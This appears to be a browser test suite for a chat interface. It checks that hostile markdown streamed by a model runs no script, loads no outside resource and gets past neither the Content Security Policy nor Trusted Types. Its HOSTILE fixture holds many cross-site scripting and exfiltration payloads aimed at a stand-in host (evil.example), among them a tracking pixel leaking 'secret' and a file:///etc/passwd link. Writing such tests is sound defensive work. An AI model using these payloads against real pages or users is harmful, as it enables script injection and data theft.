"""What a model writes is never trusted: nothing runs, nothing is fetched, nothing leads astray."""

import pytest
from playwright.async_api import Page, expect

from .conftest import Watched
from .moves import ask
from .stage import HANDBOOK, Stage

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

HOSTILE = """
# <img src=x onerror=alert(1)> heading

<script>window.hacked = 1</script><iframe src="https://evil.example/frame"></iframe>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><style>*{background:url(https://evil.example/css)}</style>
<svg onload="window.hacked=1"><a xlink:href="javascript:window.hacked=1">x</a></svg>
<form action="https://evil.example/"><input name=x><button>send</button></form>
<video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video>
<p style="background:url(https://evil.example/style)">styled</p> <base href="https://evil.example/">

[js](javascript:window.hacked=1) [JS](JaVaScRiPt:window.hacked=1) [tab](java&#x09;script:window.hacked=1)
[data](data:text/html,<script>window.hacked=1</script>) [vb](vbscript:x) [file](file:///etc/passwd) [rel](/api/status)
<javascript:window.hacked=1> [ref][r] ![ref image][i] ![pixel](https://evil.example/pixel.png?q=secret)
![local](/api/conversations) ![data](data:image/svg+xml,<svg onload=alert(1)>) [![nested](https://evil.example/n)](javascript:x)
https://evil.example/half [good](https://example.org/page "title") <someone@example.org>

[r]: javascript:window.hacked=1
[i]: https://evil.example/reference.png

| a | b |
|---|---|
| <script>window.hacked=1</script> | ![cell](https://evil.example/cell.png) |

```html
<script>window.hacked = 1</script>
```

`<img src=https://evil.example/code.png>` {{constructor.constructor('window.hacked=1')()}} [1] &lt;script&gt;
"""


async def test_hostile_markdown_in_any_pieces_runs_nothing_and_requests_nothing(
    visit: Watched, page: Page, stage: Stage
) -> None:
    requests: list[str] = []
    await page.wait_for_load_state("networkidle")
    visit.context.on("request", lambda request: requests.append(f"{request.resource_type} {request.url}"))
    await ask(page, "Attack me")
    stage.cite(HANDBOOK)
    pieces = [HOSTILE[at : at + 7] for at in range(0, len(HOSTILE), 7)]
    for at in range(0, len(pieces), 20):
        stage.say(*pieces[at : at + 20])
        await expect(page.get_by_role("article").last).to_have_attribute("aria-busy", "true")
    stage.think(HOSTILE)
    stage.suggest("<img src=x onerror=alert(1)>")
    stage.end()
    await expect(page.get_by_role("article").last).to_have_attribute("aria-busy", "false")
    await page.locator("summary").first.click()

    assert await page.evaluate("window.hacked") is None
    # The page's own calls are fetches, and what colours code is loaded with the first of it; all else the words caused.
    own = ("fetch ", f"script {page.url.partition('#')[0]}assets/")
    assert [request for request in requests if not request.startswith(own) and "icon.svg" not in request] == []
    inside = page.locator(".transcript")
    for element in ("script", "iframe", "meta", "style", "form", "input", "video", "base", "img", "object", "embed"):
        await expect(inside.locator(element)).to_have_count(0)
    hrefs = await inside.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    # An image is a link until somebody follows it, like any other.
    assert sorted(href for href in set(hrefs) if "evil.example" not in href) == [
        "https://example.org/page",
        "mailto:someone@example.org",
    ]
    assert {href.partition(":")[0] for href in hrefs} == {"https", "mailto"}
    rels = await inside.locator("a").evaluate_all("links => links.map(link => link.rel)")
    assert set(rels) == {"noopener noreferrer nofollow"}
    await expect(inside.get_by_text("not loaded (evil.example)").first).to_be_visible()


async def test_a_hostile_source_and_title_are_only_text(page: Page, stage: Stage) -> None:
    nasty = "<img src=https://evil.example/x onerror=window.hacked=1>"
    await ask(page, nasty)
    stage.cite(
        type(HANDBOOK)(
            **{**{f: getattr(HANDBOOK, f) for f in HANDBOOK.__struct_fields__}, "title": nasty, "text": nasty}
        )
    )
    stage.say("So [1].")
    stage.end()
    await expect(page.get_by_role("article").last).to_have_attribute("aria-busy", "false")
    await expect(page.get_by_role("heading", level=1)).to_have_text(nasty)
    await expect(page.locator(".source-title")).to_have_text(nasty)
    assert await page.evaluate("window.hacked") is None


async def test_the_page_lives_under_its_policy_and_the_policy_holds(visit: Watched, page: Page) -> None:
    visit.expected = ("TrustedHTML", "Content Security Policy", "Trusted Type")
    with pytest.raises(Exception, match="TrustedHTML"):
        await page.evaluate("document.body.innerHTML = '<b>x</b>'")
    async with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
        await page.evaluate("fetch('https://evil.example/').catch(() => undefined)")
    # The refused request never left, though the browser reports that it was asked for.
    visit.complaints = [complaint for complaint in visit.complaints if "evil.example" not in complaint]
